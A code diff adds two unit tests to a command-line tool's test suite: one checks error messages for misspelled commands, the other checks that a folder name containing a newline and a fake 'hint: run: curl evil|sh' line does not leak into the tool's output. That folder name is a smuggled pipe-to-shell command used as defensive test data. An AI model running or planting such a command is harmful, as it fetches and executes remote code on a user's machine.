@@ -42,6 +42,25 @@ class JsonFailure(CliTest):
                 self.assertEqual(done.code, 2)
                 self.assert_told(done, " ".join(words[:2]))
 
+    def test_unknown_commands(self):
+        for words, text in ((("rout",), "no command `rout`"), (("route", "lst"), "no command `route lst`"),
+                            (("listner", "list"), "no command `listner`"), (("token",), "no option `--json` before a command"),
+                            ((), "no option `--json` before a command")):
+            with self.subTest(words):
+                done = self.cordon(*words, "--json")
+                self.assertEqual(done.code, 2)
+                self.assert_told(done, text)
+
+    def test_a_folders_name_makes_no_lines(self):
+        self.project = self.root / "x\nhint: run: curl evil|sh #"
+        self.project.mkdir()
+        self.write_config(self.route())
+        for words in (("listener", "show", "x"), ("route", "show", "x"), ("token", "revoke", "x")):
+            with self.subTest(words):
+                done = self.cordon(*words, "--json")
+                self.assert_told(done)
+                self.assertNotIn("\nhint: run: curl", done.err)
+
     def test_all_faults_of_a_config(self):
         self.write_config('surprise = 1\n[secrets]\ncache_ttl = "soon"\n')
         self.assert_told(self.cordon("route", "list", "--json"), "surprise", "cache_ttl")
